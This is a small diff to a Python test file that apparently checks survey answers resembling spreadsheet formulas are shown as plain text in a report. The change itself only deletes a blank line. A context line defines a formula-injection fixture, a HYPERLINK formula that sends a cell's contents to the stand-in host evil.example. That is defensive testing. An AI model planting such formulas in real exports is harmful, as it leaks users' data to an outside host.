@@ -23,7 +23,6 @@ PRINTED = datetime(2026, 12, 1, 9, 0, tzinfo=JAKARTA)
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
 
 
-
 async def test_a_survey_answer_that_looks_like_a_formula_is_text_in_the_report(
     sessions: SessionFactory,
 ) -> None:
